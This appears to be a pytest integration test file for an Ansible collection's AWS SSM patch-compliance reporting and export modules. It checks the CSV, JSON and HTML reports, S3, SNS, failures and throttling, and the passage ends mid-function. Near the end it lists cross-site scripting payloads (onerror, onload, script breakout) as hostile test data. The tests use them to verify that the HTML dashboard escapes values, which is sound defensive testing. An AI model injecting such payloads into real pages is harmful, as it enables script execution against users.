"""ssm_patch_compliance_info and ssm_compliance_export against the sandbox: the workshop's numbers
before the scan, after it and after the install; the CSV cell by cell; S3, encryption and SNS; an
export that fails half-way; throttling; the call budget of a 1,000-node export."""

import base64
import csv
import datetime
import hashlib
import importlib
import io
import itertools
import json
import math
import re
import shutil
import stat
import subprocess
import types
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ansible_collections.cloudpatch.ssm.plugins.module_utils.compliance import DashboardCounts
from ansible_collections.cloudpatch.ssm.plugins.module_utils.compliance import report_writer
from tests.integration.in_process import run_in_process

WORKSHOP_NODES = ("App1", "App2", "Web1", "Web2")
BUCKET = "ssm-command-logs-us-east-1-123456789012"
SUMMARY_HEADER = [
    "Index", "Instance ID", "Instance name", "Instance IP", "Platform name", "Platform version",
    "SSM Agent version", "Patch baseline", "Patch group", "Compliance status", "Compliance severity",
    "Noncompliant Critical severity patch count", "Noncompliant High severity patch count",
    "Noncompliant Medium severity patch count", "Noncompliant Low severity patch count",
    "Noncompliant Informational severity patch count", "Noncompliant Unspecified severity patch count",
]
DETAIL_HEADER = [
    "Index", "Instance ID", "Instance name", "Patch name", "KB ID/Patch ID", "Patch state", "Last report time",
    "Compliance level", "Patch severity", "Patch classification", "CVE ID", "Patch baseline", "Logs URL",
    "Instance IP", "Platform name", "Platform version", "SSM Agent version",
]
LEVELS = ("Critical", "High", "Medium", "Low", "Informational", "Unspecified")


@pytest.fixture
def agent(run_target):
    run_target.sandbox.set_agent(seconds_per_node=0.2, reboot_seconds=0.5, delivery_timeout_scale=0.05)
    yield run_target.sandbox
    run_target.sandbox.reset_agent()


def workshop(sandbox):
    """The workshop: four Amazon Linux 2 instances, App on AmazonLinux2SecAndNonSecBaseline, Web on the default."""
    node_ids = {name: sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": name})[0] for name in WORKSHOP_NODES}
    ssm, ec2 = sandbox.client("ssm"), sandbox.client("ec2")
    baseline = ssm.create_patch_baseline(
        Name="AmazonLinux2SecAndNonSecBaseline",
        OperatingSystem="AMAZON_LINUX_2",
        ApprovalRules={"PatchRules": [
            {"PatchFilterGroup": {"PatchFilters": [{"Key": "PRODUCT", "Values": ["*"]},
                                                   {"Key": "CLASSIFICATION", "Values": ["Security", "Bugfix"]},
                                                   {"Key": "SEVERITY", "Values": ["*"]}]},
             "ApproveAfterDays": 0, "ComplianceLevel": "CRITICAL"},
            {"PatchFilterGroup": {"PatchFilters": [{"Key": "PRODUCT", "Values": ["*"]}]},
             "ApproveAfterDays": 0, "ComplianceLevel": "MEDIUM", "EnableNonSecurity": True},
        ]},
        ApprovedPatches=["kernel*"], ApprovedPatchesComplianceLevel="HIGH", ApprovedPatchesEnableNonSecurity=True,
    )["BaselineId"]
    ssm.register_patch_baseline_for_patch_group(BaselineId=baseline, PatchGroup="App")
    for group in ("App", "Web"):
        ec2.create_tags(Resources=[node_ids[f"{group}1"], node_ids[f"{group}2"]], Tags=[{"Key": "Patch Group", "Value": group}])
    sandbox.client("s3").create_bucket(Bucket=BUCKET)
    return node_ids


def sns_to_sqs(sandbox):
    sns, sqs = sandbox.client("sns"), sandbox.client("sqs")
    topic_arn = sns.create_topic(Name="patch-reports")["TopicArn"]
    queue_url = sqs.create_queue(QueueName="patch-reports")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue_url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    sns.subscribe(TopicArn=topic_arn, Protocol="sqs", Endpoint=queue_arn, Attributes={"RawMessageDelivery": "true"})
    return topic_arn, queue_url


def read_csv(text):
    return list(csv.reader(io.StringIO(text)))


def expected_summary_rows(sandbox, node_ids):
    """The all-nodes CSV rows, computed from the API reads with boto3, in DescribeInstanceInformation's order."""
    ssm = sandbox.client("ssm")
    names = dict((node_id, name) for name, node_id in node_ids.items())
    infos = ssm.describe_instance_information()["InstanceInformationList"]
    states = dict((state["InstanceId"], state) for state in
                  ssm.describe_instance_patch_states(InstanceIds=[info["InstanceId"] for info in infos])["InstancePatchStates"])
    summaries = dict((item["ResourceId"], item) for item in ssm.list_resource_compliance_summaries(
        Filters=[{"Key": "ComplianceType", "Values": ["Patch"], "Type": "EQUAL"}])["ResourceComplianceSummaryItems"])
    rows = []
    for index, info in enumerate(infos, start=1):
        node_id = info["InstanceId"]
        state, summary = states.get(node_id), summaries.get(node_id)
        row = [str(index), node_id, names[node_id], info["IPAddress"], info["PlatformName"], info["PlatformVersion"],
               info["AgentVersion"]]
        if summary is None:
            row += ["", "", "NEVER_REPORTED", ""] + [""] * 6
        else:
            counts = summary["NonCompliantSummary"]["SeveritySummary"]
            row += [state["BaselineId"], state["PatchGroup"], summary["Status"],
                    summary["OverallSeverity"] if summary["Status"] == "NON_COMPLIANT" else ""]
            row += [str(counts[f"{level}Count"]) for level in LEVELS]
        rows.append(row)
    return rows


def test_workshop_dashboard_and_csv_before_scan_after_scan_and_after_install(agent, tmp_path):
    node_ids = workshop(agent)
    topic_arn, queue_url = sns_to_sqs(agent)
    before_rows = expected_summary_rows(agent, node_ids)
    # The dashboard and the export before the scan, in process: before the scan every node is never
    # reported, as on the console.
    before = module_here(agent, "ssm_patch_compliance_info", {"instances": True})
    assert before["changed"] is False
    assert before["dashboard"]["patch_states"] == {"managed_nodes": 4, "with_missing_patches": 0, "with_failed_patches": 0, "pending_reboot": 0}
    assert before["dashboard"]["reporting_age"] == {"days": 7, "within_days": 0, "older": 0, "never_reported": 4}
    assert before["dashboard"]["compliance_summary"] == {"compliant": 0, "critical_non_compliant": 0, "high_non_compliant": 0,
                                                         "other_non_compliant": 0}
    assert before["dashboard"]["recent_operations"] == []
    assert len(before["instances"]) == 4
    assert {node["status"] for node in before["instances"]} == {"NEVER_REPORTED"}
    assert sorted(node["name"] for node in before["instances"]) == list(WORKSHOP_NODES)
    export_here(agent, {"report_name": "before-scan", "dest": str(tmp_path)})
    # Two simulated seconds a served SSM request: the scan and the install are over when first polled.
    agent.step_clock(2.0)
    results = scan_export_and_install(agent, tmp_path, topic_arn, sorted(node_ids.values()))

    # The info module's filters (the nodes they keep, which neither the scan nor the install changes), in process.
    app_only = module_here(agent, "ssm_patch_compliance_info", {"patch_groups": ["App"], "instances": True})
    assert app_only["dashboard"]["patch_states"]["managed_nodes"] == 2
    assert sorted(node["name"] for node in app_only["instances"]) == ["App1", "App2"]
    for selection, expect in [
        ({"instance_ids": [node_ids["App1"], node_ids["Web2"]]}, ["App1", "Web2"]),
        ({"patch_groups": ["Web"]}, ["Web1", "Web2"]),
        ({"tags": {"Name": ["App2", "Web1"]}}, ["App2", "Web1"]),
        ({"tags": {"Patch Group": "App"}, "patch_groups": ["App", "Web"]}, ["App1", "App2"]),
        ({"patch_groups": ["Nobody"]}, []),
    ]:
        filtered = module_here(agent, "ssm_patch_compliance_info", dict(selection, instances=True))
        # Each filter keeps its nodes, and the counts are theirs.
        assert sorted(node["name"] for node in filtered["instances"]) == expect, (selection, filtered)
        assert filtered["dashboard"]["patch_states"]["managed_nodes"] == len(expect), (selection, filtered)
    # The exports after the install, as CSV, JSON and the HTML dashboard, in process.
    for report_format in ("csv", "json", "html"):
        export_here(agent, {"report_name": "after-install", "format": report_format, "dest": str(tmp_path)})

    # Before the scan: every node never reported, no baseline, group, status counts.
    before = read_csv((tmp_path / "before-scan.csv").read_text())
    assert before[0] == SUMMARY_HEADER
    assert before[1:] == before_rows
    assert {row[9] for row in before[1:]} == {"NEVER_REPORTED"}

    # After the scan: the S3 object, cell by cell against the API's own numbers (read now: the
    # install has run since, so recompute from the scan's JSON instead).
    s3 = agent.client("s3")
    obj = s3.get_object(Bucket=BUCKET, Key="ssm-workshop.csv", ChecksumMode="ENABLED")
    assert obj["ServerSideEncryption"] == "AES256"
    assert obj["ContentType"] == "text/csv"
    body = obj["Body"].read()
    # The object carries the checksum the module sent, which S3 (and the sandbox) verified on the put.
    assert obj["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(body).digest()).decode()
    assert hashlib.sha256(body).hexdigest() == results["export_scan"]["report"]["sha256"]
    scanned_csv = read_csv(body.decode())
    assert scanned_csv[0] == SUMMARY_HEADER
    by_id = dict((row["instance_id"], row) for row in results["scanned"]["instances"])
    assert len(scanned_csv) == 5
    for index, cells in enumerate(scanned_csv[1:], start=1):
        row = by_id[cells[1]]
        counts = row["non_compliant_counts"]
        assert cells == [str(index), row["instance_id"], row["name"], row["ip_address"], row["platform_name"],
                         row["platform_version"], row["agent_version"], row["baseline_id"], row["patch_group"],
                         "NON_COMPLIANT", row["severity"]] + [str(counts[level.lower()]) for level in LEVELS]
        assert cells[8] in ("App", "Web")
        assert cells[10] == ("CRITICAL" if cells[8] == "App" else "UNSPECIFIED")
        assert int(cells[11]) > 0 if cells[8] == "App" else int(cells[16]) > 0
    # and those numbers are the API's: the App nodes' non-compliant counts add up to their patch states' missing ones
    for cells in scanned_csv[1:]:
        assert sum(int(value) for value in cells[11:17]) >= by_id[cells[1]]["patch_counts"]["missing"] > 0

    # The notification: after the object, naming it.
    messages = agent.client("sqs").receive_message(QueueUrl=queue_url, MaxNumberOfMessages=10)["Messages"]
    assert len(messages) == 1
    message = json.loads(messages[0]["Body"])
    assert message["report"]["s3_url"] == f"s3://{BUCKET}/ssm-workshop.csv"
    assert message["report"]["nodes"] == 4
    assert message["report"]["sha256"] == results["export_scan"]["report"]["sha256"]
    assert message["report"]["name"] == "ssm-workshop" and message["report"]["format"] == "csv"
    assert message["patch_states"]["managed_nodes"] == 4 and message["reporting_age"]["within_days"] == 4
    assert message["compliance_summary"] == {"compliant": 0, "critical_non_compliant": 2, "high_non_compliant": 0, "other_non_compliant": 2}

    # Single node: its summary row, a blank line, one row per non-compliant patch.
    app1 = read_csv((tmp_path / "app-one.csv").read_text())
    assert app1[0] == SUMMARY_HEADER and len(app1[1]) == 17 and app1[1][2] == "App1"
    assert app1[2] == [] and app1[3] == DETAIL_HEADER
    details = app1[4:]
    assert len(details) == results["export_app1"]["report"]["patches"] > 0
    assert [row[0] for row in details] == [str(index) for index in range(1, len(details) + 1)]
    assert {row[5] for row in details} <= {"Missing", "Failed", "InstalledPendingReboot", "InstalledRejected"}
    assert {row[7] for row in details} <= {"CRITICAL", "HIGH", "MEDIUM", "LOW", "INFORMATIONAL", "UNSPECIFIED"}
    assert all(row[12].startswith(f"s3://{BUCKET}/") and row[12].endswith(f"/{node_ids['App1']}/awsrunShellScript/PatchLinux/stdout")
               for row in details)
    assert len(details) == by_id[node_ids["App1"]]["patch_counts"]["missing"]
    assert sum(1 for row in details if row[7] == "CRITICAL") == int(app1[1][11])

    # The Web patch group's report: its two nodes only.
    web = json.loads((tmp_path / "web-only.json").read_text())
    web_ids = sorted(node_ids[name] for name in ("Web1", "Web2"))
    assert sorted(node["instance_id"] for node in web["nodes"]) == web_ids
    assert web["report"]["scope"] == "patch groups Web"

    # After the install: compliant everywhere, the same rows as the API's.
    after = read_csv((tmp_path / "after-install.csv").read_text())
    assert after[1:] == expected_summary_rows(agent, node_ids)
    assert {row[9] for row in after[1:]} == {"COMPLIANT"}
    document = json.loads((tmp_path / "after-install.json").read_text())
    assert len(document["nodes"]) == 4 and document["dashboard"]["compliance_summary"]["compliant"] == 4
    page = (tmp_path / "after-install.html").read_text()
    assert "http://" not in page and "https://" not in page and "<script" not in page
    # Nothing else was left in the report directory (no temporary files).
    assert sorted(path.name for path in tmp_path.iterdir() if path.is_file() and path.name.startswith(".")) == []


def scan_export_and_install(sandbox, report_dir, topic_arn, instance_ids):
    """The workshop's scan, the dashboard after it, its exports and the install, each module in process in turn and
    each result checked before the next runs (the Ansible path of the export, its file options and the roles: the
    tests that run them through ansible-playbook below); the results the test reads further."""
    module_here(sandbox, "ssm_patch_run", {"operation": "scan", "all_instances": True, "output_s3_bucket": BUCKET})
    scanned = module_here(sandbox, "ssm_patch_compliance_info", {"instances": True})
    dashboard = scanned["dashboard"]
    # After the scan every node reported; App (CRITICAL rules) is critical, Web (the AWS default, UNSPECIFIED) other.
    assert dashboard["reporting_age"] == {"days": 7, "within_days": 4, "older": 0, "never_reported": 0}, dashboard
    assert dashboard["patch_states"] == {"managed_nodes": 4, "with_missing_patches": 4, "with_failed_patches": 0, "pending_reboot": 0}, dashboard
    assert dashboard["compliance_summary"] == {"compliant": 0, "critical_non_compliant": 2, "high_non_compliant": 0, "other_non_compliant": 2}, dashboard
    (operation,) = dashboard["recent_operations"]
    assert (operation["operation"], operation["document"], operation["status"]) == ("Scan", "AWS-RunPatchBaseline", "Success"), operation
    # Run Command takes explicit ids for every node (issue 14): the listed nodes, in one command of four.
    assert operation["targets"] == "InstanceIds: " + ", ".join(instance_ids), operation
    for group, severity in (("App", "CRITICAL"), ("Web", "UNSPECIFIED")):
        assert {node["severity"] for node in scanned["instances"] if node["patch_group"] == group} == {severity}, scanned["instances"]

    # Check mode says what it would write (a change, predicted); the export writes it.
    export_args = {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "sns_topic_arn": topic_arn}
    export_check = module_here(sandbox, "ssm_compliance_export", export_args, check_mode=True)
    assert export_check["changed"] is True, export_check
    report = export_check["report"]
    assert (report["s3_key"], report["s3_url"]) == ("ssm-workshop.csv", f"s3://{BUCKET}/ssm-workshop.csv"), report
    assert (report["server_side_encryption"], report["sns_topic_arn"], report["nodes"]) == ("AES256", topic_arn, 4), report
    assert report["bytes"] > 0 and "sns_message_id" not in report, report
    export_scan = export_here(sandbox, export_args)
    assert export_scan["changed"] is True, export_scan
    assert (export_scan["report"]["s3_url"], export_scan["report"]["nodes"]) == (f"s3://{BUCKET}/ssm-workshop.csv", 4), export_scan
    assert "sns_message_id" in export_scan["report"], export_scan
    assert export_scan["dashboard"]["compliance_summary"] == dashboard["compliance_summary"], export_scan

    # The Web patch group only, as JSON: the report holds the Web nodes only, and says so.
    export_web = export_here(sandbox, {"report_name": "web-only", "format": "json", "patch_groups": ["Web"], "dest": str(report_dir)})
    assert export_web["changed"] is True, export_web
    assert (export_web["report"]["nodes"], export_web["report"]["scope"]) == (2, "patch groups Web"), export_web
    assert export_web["dashboard"]["patch_states"]["managed_nodes"] == 2, export_web
    assert export_web["dashboard"]["compliance_summary"] == {"compliant": 0, "critical_non_compliant": 0, "high_non_compliant": 0,
                                                             "other_non_compliant": 2}, export_web
    app1 = next(node["instance_id"] for node in scanned["instances"] if node["name"] == "App1")
    export_app1 = export_here(sandbox, {"report_name": "app-one", "instance_id": app1, "dest": str(report_dir)})

    # Install on every node, rebooting if needed: then every node is compliant and nothing is pending.
    module_here(sandbox, "ssm_patch_run", {"operation": "install", "all_instances": True, "output_s3_bucket": BUCKET})
    installed = module_here(sandbox, "ssm_patch_compliance_info", {})
    assert installed["dashboard"]["compliance_summary"] == {"compliant": 4, "critical_non_compliant": 0, "high_non_compliant": 0,
                                                            "other_non_compliant": 0}, installed
    assert installed["dashboard"]["patch_states"] == {"managed_nodes": 4, "with_missing_patches": 0, "with_failed_patches": 0,
                                                      "pending_reboot": 0}, installed
    assert installed["dashboard"]["reporting_age"]["within_days"] == 4, installed
    assert [item["operation"] for item in installed["dashboard"]["recent_operations"]] == ["Install", "Scan"], installed
    assert "instances" not in installed, installed
    return {"scanned": scanned, "installed": installed, "export_scan": export_scan, "export_app1": export_app1}


def scan_everything(sandbox):
    """A Scan of every node through Run Command: the tests' patch data. Run Command takes no
    InstanceIds=* (the API reference's Target page), so the listed nodes go by id, 50 to a command.
    One wave of 0.2 simulated seconds (the `agent` fixture's timing), so the clock jumps past it
    rather than the test waiting; it runs on afterwards for the module under test."""
    ssm = sandbox.client("ssm")
    node_ids = [node["InstanceId"] for page in ssm.get_paginator("describe_instance_information").paginate()
                for node in page["InstanceInformationList"]]
    sandbox.freeze_clock()
    try:
        command_ids = [ssm.send_command(DocumentName="AWS-RunPatchBaseline", InstanceIds=node_ids[start:start + 50],
                                        Parameters={"Operation": ["Scan"]}, MaxConcurrency="1000", MaxErrors="1000")["Command"]["CommandId"]
                       for start in range(0, len(node_ids), 50)]
        sandbox.advance_clock(0.3)
        assert [ssm.list_commands(CommandId=command_id)["Commands"][0]["Status"] for command_id in command_ids] == ["Success"] * len(command_ids)
    finally:
        sandbox.unfreeze_clock()
    return command_ids


def export(run_target, tmp_path, export_args, expect_failure=False, name="result"):
    """The module through ansible-playbook (the ssm_compliance_export_run target): its registered result."""
    result_path = tmp_path / f"{name}.json"
    run_target("ssm_compliance_export_run", {"export_args": export_args, "result_path": str(result_path),
                                             "expect_failure": expect_failure})
    return json.loads(result_path.read_text())


def module_here(sandbox, module_name, args, expect_failure=False, check_mode=False):
    """The module in this process (tests/integration/in_process.py: the module as Ansible runs it), for the tests
    of what the module does; those of the Ansible path (a task, its file options, the roles) go through
    export() or a target. Spares each run an ansible-playbook start-up and a process per task."""
    with pytest.MonkeyPatch.context() as environment:
        for variable, value in sandbox.environment().items():
            environment.setenv(variable, value)
        result = run_in_process(module_name, args, check_mode)
    assert "uncaught" not in result, result
    # What a task asserts of its result (it failed or not), and what Ansible adds to a result that does not say.
    assert bool(result.get("failed")) == expect_failure, result
    result.setdefault("changed", False)
    return result


def export_here(sandbox, export_args, expect_failure=False):
    """ssm_compliance_export in this process (module_here)."""
    return module_here(sandbox, "ssm_compliance_export", export_args, expect_failure)


def test_1000_node_export_stays_within_the_call_budget(agent, tmp_path):
    fleet_size = 1000
    agent.seed_nodes(fleet_size, "AMAZON_LINUX_2", kind="hybrid")
    scan_everything(agent)
    agent.clear_calls()

    result = export_here(agent, {"report_name": "fleet", "dest": str(tmp_path)})

    assert result["report"]["nodes"] == fleet_size
    rows = read_csv((tmp_path / "fleet.csv").read_text())
    assert len(rows) == fleet_size + 1 and {row[9] for row in rows[1:]} == {"NON_COMPLIANT"}
    operations = agent.operations()
    pages = math.ceil(fleet_size / 50)
    assert operations.count("DescribeInstanceInformation") == pages
    assert operations.count("DescribeInstancePatchStates") == pages
    assert operations.count("ListResourceComplianceSummaries") == pages
    assert operations.count("DescribeTags") <= math.ceil(fleet_size / 1000)
    assert operations.count("ListComplianceItems") == 0
    assert len(operations) <= 3 * pages + math.ceil(fleet_size / 1000) + 10
    assert agent.mutating_calls() == []
    # read_concurrency 4 (the default): the node pages are listed while the summaries are (in the
    # call log's order, the first node page ends before the last page of summaries), and each chain
    # asks for its pages in turn, each with the token the page before gave (the sandbox's tokens
    # are the offsets).
    assert operations.index("DescribeInstanceInformation") < len(operations) - operations[::-1].index("ListResourceComplianceSummaries") - 1
    for operation in ("DescribeInstanceInformation", "ListResourceComplianceSummaries"):
        tokens = [call["parameters"].get("NextToken") for call in agent.calls(operation=operation)]
        assert tokens[0] is None and len(set(tokens)) == pages
    parallel_report = (tmp_path / "fleet.csv").read_bytes()

    # One call at a time: the same calls, in the order of the module docstring, and the same report byte for byte.
    serial_dir = tmp_path / "serial"
    serial_dir.mkdir()
    agent.clear_calls()
    export_here(agent, {"report_name": "fleet", "dest": str(serial_dir), "read_concurrency": 1})
    serial = agent.operations()
    assert sorted(serial) == sorted(operations)
    assert serial == (["DescribeTags"] * operations.count("DescribeTags") + ["ListResourceComplianceSummaries"] * pages
                      + ["DescribeInstanceInformation", "DescribeInstancePatchStates"] * pages)
    assert (serial_dir / "fleet.csv").read_bytes() == parallel_report

    # The HTML page adds the dashboard's activity, a few calls that do not grow with the fleet.
    agent.clear_calls()
    result = export_here(agent, {"report_name": "fleet", "format": "html", "dest": str(tmp_path)})
    assert result["report"]["nodes"] == fleet_size
    assert (tmp_path / "fleet.html").read_text().count("<tr data-node=") == fleet_size
    operations = agent.operations()
    assert operations.count("DescribeInstanceInformation") == pages
    assert len(operations) <= 3 * pages + math.ceil(fleet_size / 1000) + 10


def test_s3_object_with_kms_expected_owner_and_prefix(agent):
    node_ids = workshop(agent)
    scan_everything(agent)
    key_id = agent.client("kms").create_key()["KeyMetadata"]["KeyId"]
    result = export_here(agent, {
        "report_name": "ssm-workshop", "format": "json", "s3_bucket": BUCKET, "s3_prefix": "reports",
        "server_side_encryption": "aws:kms", "kms_key_id": key_id, "expected_bucket_owner": "123456789012"})
    assert result["changed"] and result["report"]["s3_key"] == "reports/ssm-workshop.json"
    obj = agent.client("s3").get_object(Bucket=BUCKET, Key="reports/ssm-workshop.json")
    assert obj["ServerSideEncryption"] == "aws:kms"
    assert obj["SSEKMSKeyId"].endswith(key_id)
    body = obj["Body"].read()
    assert hashlib.sha256(body).hexdigest() == result["report"]["sha256"]
    document = json.loads(body)
    assert sorted(node["instance_id"] for node in document["nodes"]) == sorted(node_ids.values())
    # One PutObject, with the report's SHA-256, which the sandbox's S3 verified and kept, as S3 does.
    assert len(agent.calls(service="s3", operation="PutObject")) == 1
    head = agent.client("s3").head_object(Bucket=BUCKET, Key="reports/ssm-workshop.json", ChecksumMode="ENABLED")
    assert head["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(body).digest()).decode()


def test_a_bucket_of_another_owner_gets_nothing(agent, tmp_path):
    """expected_bucket_owner: S3 refuses the put (403 AccessDenied); the local copy is not left either."""
    workshop(agent)
    topic_arn, queue_url = sns_to_sqs(agent)
    reports = tmp_path / "reports"
    reports.mkdir()
    result = export_here(agent, {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "dest": str(reports),
                                 "expected_bucket_owner": "210987654321", "sns_topic_arn": topic_arn},
                         expect_failure=True)
    assert "put report object" in result["msg"] and "AccessDenied" in json.dumps(result)
    assert agent.client("s3").list_objects_v2(Bucket=BUCKET).get("KeyCount", 0) == 0
    assert list(reports.iterdir()) == []
    # No notification for a report that was not written.
    assert agent.client("sqs").receive_message(QueueUrl=queue_url, WaitTimeSeconds=0).get("Messages", []) == []
    assert agent.calls(service="sns", operation="Publish") == []


def test_a_failure_half_way_leaves_nothing_behind(agent, tmp_path, monkeypatch):
    workshop(agent)
    scan_everything(agent)
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    reports = tmp_path / "reports"
    reports.mkdir()
    agent.set_fault("s3", "PutObject", error_500_rate=1.0, seed=3)
    try:
        result = export_here(agent, {"report_name": "ssm-workshop", "s3_bucket": BUCKET, "dest": str(reports / "out.csv")},
                             expect_failure=True)
    finally:
        agent.clear_faults()
    assert "put report object" in result["msg"]
    assert agent.client("s3").list_objects_v2(Bucket=BUCKET).get("KeyCount", 0) == 0
    assert list(reports.iterdir()) == []


def export_refused_mid_way(agent, tmp_path, nodes, read_concurrency):
    """An export of `nodes` scanned nodes whose second DescribeInstancePatchStates is refused (permissions
    taken away half-way through): (its result, the reports directory)."""
    agent.seed_nodes(nodes, "AMAZON_LINUX_2", kind="hybrid")
    scan_everything(agent)
    agent.client("s3").create_bucket(Bucket="reports-mid-export")
    reports = tmp_path / "reports"
    reports.mkdir()
    # Only this operation draws from the seeded generator: with seed 10 its first draw (0.57) passes
    # and its second (0.43) falls in the access-denied band, an error no client retries.
    agent.set_fault("ssm", "DescribeInstancePatchStates", access_denied_rate=0.5, seed=10)
    agent.clear_calls()
    try:
        result = export_here(agent, {"report_name": "mid-export", "s3_bucket": "reports-mid-export",
                                     "dest": str(reports / "mid-export.csv"), "read_concurrency": read_concurrency},
                             expect_failure=True)
    finally:
        agent.clear_faults()
    return result, reports


def assert_nothing_written(agent, reports):
    assert list(reports.iterdir()) == []
    assert agent.client("s3").list_objects_v2(Bucket="reports-mid-export").get("KeyCount", 0) == 0
    assert agent.calls(service="s3", operation="PutObject") == []


def test_a_read_failing_mid_export_leaves_nothing_behind(agent, tmp_path):
    """120 nodes are three pages: one call at a time, the second page's patch states fail after the
    first page's rows were written, so the temporary file exists when the export stops."""
    result, reports = export_refused_mid_way(agent, tmp_path, 120, read_concurrency=1)
    patch_state_calls = agent.calls(operation="DescribeInstancePatchStates")
    assert [(call["status"], call["error_code"]) for call in patch_state_calls] == [(200, None), (400, "AccessDeniedException")]
    assert "AccessDeniedException" in result["msg"] or "not authorized" in result["msg"]
    assert_nothing_written(agent, reports)


def test_a_read_failing_in_parallel_stops_the_reads_and_leaves_nothing_behind(agent, tmp_path):
    """The same failure with the reads in parallel: the error is the page's, as one call at a time;
    once it is seen nothing more is asked for, and nothing is written."""
    result, reports = export_refused_mid_way(agent, tmp_path, 500, read_concurrency=4)
    assert "describe patch states" in result["msg"] and ("AccessDeniedException" in result["msg"] or "not authorized" in result["msg"])
    assert "Traceback" not in json.dumps(result)
    # The call log is in the order the answers went out: two calls may be served at once, so which
    # one was the second to draw is not known from it, only that one was refused and few were made.
    patch_state_calls = [(call["status"], call["error_code"]) for call in agent.calls(operation="DescribeInstancePatchStates")]
    assert (400, "AccessDeniedException") in patch_state_calls and len(patch_state_calls) <= 4, patch_state_calls
    # Ten pages of nodes: a page is read at most parallel.AHEAD pages ahead of the patch states, and
    # nothing is asked for once the refusal is seen, so the listing stopped well before its end.
    assert len(agent.calls(operation="DescribeInstanceInformation")) <= 5
    assert_nothing_written(agent, reports)


def test_converges_with_30_percent_throttling(agent, tmp_path):
    agent.seed_nodes(120, "AMAZON_LINUX_2", kind="hybrid")
    scan_everything(agent)
    reports = tmp_path / "reports"
    reports.mkdir()
    export_here(agent, {"report_name": "calm", "format": "json", "dest": str(reports)})
    agent.set_faults([{"service": "ssm", "operation": "*", "throttle_rate": 0.3},
                      {"service": "ec2", "operation": "*", "throttle_rate": 0.3}], seed=7)
    try:
        export_here(agent, {"report_name": "throttled", "format": "json", "dest": str(reports)})
        throttled = [call for call in agent.calls() if call.get("injected")]
    finally:
        agent.clear_faults()
    assert len(throttled) >= 3
    calm = json.loads((reports / "calm.json").read_text())
    stormy = json.loads((reports / "throttled.json").read_text())
    assert stormy["nodes"] == calm["nodes"] and len(calm["nodes"]) == 120


CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]


@pytest.mark.skipif(not CHROMIUM.exists(), reason="headless browser test needs Debian's chromium: apt-get install -y chromium")
def test_html_dashboard_in_headless_chromium(agent, tmp_path):
    workshop(agent)
    scan_everything(agent)
    export_here(agent, {"report_name": "dashboard", "format": "html", "dest": str(tmp_path)})
    page = tmp_path / "dashboard.html"
    profile = tmp_path / "profile"
    dom = subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "--dump-dom", page.as_uri()],
                         capture_output=True, text=True, timeout=120, check=True).stdout
    numbers = dict(re.findall(r'id="((?:compliance|age|states)-[a-z_]+)" data-count="(\d+)"', dom))
    assert numbers == {
        "compliance-compliant": "0", "compliance-critical_non_compliant": "2", "compliance-high_non_compliant": "0",
        "compliance-other_non_compliant": "2",
        "states-managed_nodes": "4", "states-with_missing_patches": "4", "states-with_failed_patches": "0", "states-pending_reboot": "0",
        "age-within_days": "4", "age-older": "0", "age-never_reported": "0",
    }
    assert dom.count('class="segment"') == 3  # two compliance segments, one reporting-age segment
    assert dom.count("<tr data-node=") == 4
    assert re.search(r'<table id="operations">.*?<td>Scan</td><td>Run Command</td><td>AWS-RunPatchBaseline</td>', dom, re.S)
    screenshot = tmp_path / "dashboard.png"
    subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", f"--screenshot={screenshot}",
                    "--window-size=1400,1000", page.as_uri()], capture_output=True, text=True, timeout=120, check=True)
    assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    keep = Path(__file__).resolve().parents[2] / ".build" / "screenshots"
    keep.mkdir(parents=True, exist_ok=True)
    shutil.copy(screenshot, keep / "compliance-dashboard.png")


# Hostile data: what a node's Name tag, a platform string or a patch title could carry.
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '" onmouseover="alert(3)',
    "'><svg onload=alert(4)>",
    "</td></tr></table><iframe src=javascript:alert(5)></iframe>",
)


class DomShape(HTMLParser):
    """The elements, attributes and text of a page as Chromium serialized its DOM."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(name for name, _value in attrs)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)


def chromium_dom(page, profile):
    try:
        return subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "--dump-dom", page.as_uri()],
                              capture_output=True, text=True, timeout=120, check=True).stdout
    except subprocess.TimeoutExpired:
        # An injected handler that ran alert() leaves headless Chromium waiting on the dialog.
        pytest.fail(f"{page.name}: Chromium never finished loading the page: a script from the data ran (an alert dialog waits)")


def dom_shape(dom):
    shape = DomShape()
    shape.feed(dom)
    shape.close()
    return shape


def hostile_page(value):
    """A single-node page whose every value from AWS (node, patches, operations, tasks, scope) is `value`."""
    node = {
        "instance_id": value, "name": value, "ip_address": value, "computer_name": value, "resource_type": "EC2Instance",
        "ping_status": "Online", "platform_type": "Linux", "platform_name": value, "platform_version": value, "agent_version": value,
        "patch_group": value, "baseline_id": value, "status": value, "severity": value,
        "non_compliant_counts": {"critical": 1, "high": 0, "medium": 0, "low": 0, "informational": 0, "unspecified": 0},
        "patch_counts": {"installed": 1, "installed_other": 0, "installed_pending_reboot": 0, "installed_rejected": 0, "missing": 1,
                         "failed": 0, "not_applicable": 0},
        "last_operation": "Scan", "last_report_time": value, "reporting_age": "within",
    }
    detail = {key: value for key in ("instance_id", "name", "title", "patch_id", "state", "last_report_time", "compliance_level",
                                     "severity", "classification", "cve_ids", "baseline_id", "logs_url")}
    counts = DashboardCounts()
    counts.add(dict(node, status="NON_COMPLIANT", severity="CRITICAL"))
